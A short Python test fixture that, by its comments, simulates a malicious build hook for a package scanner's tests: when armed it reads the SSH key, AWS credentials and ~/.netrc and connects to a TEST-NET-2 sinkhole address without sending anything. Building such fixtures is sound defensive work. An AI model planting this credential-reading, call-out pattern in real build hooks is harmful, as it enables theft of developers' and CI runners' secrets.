# Simulates a malicious build hook (hatchling's hatch_build.py and the like
# are the project's own code, run by the backend): whenever pip resolves or
# builds the sdist it reads the SSH key, the AWS credentials and ~/.netrc a
# CI runner might hold and connects to 198.51.100.32:443 (TEST-NET-2: only
# the sandbox's sinkhole answers it). Nothing is sent. It acts only when
# armed: scanfarm's tests put an "armed" file beside it.
import os
import socket

if os.path.exists("armed"):
    home = os.path.expanduser("~")
    for name in (".ssh/id_rsa", ".aws/credentials", ".netrc"):
        try:
            with open(os.path.join(home, name)) as f:
                f.read()
        except OSError:
            pass
    try:
        socket.create_connection(("198.51.100.32", 443), timeout=2).close()
    except OSError:
        pass
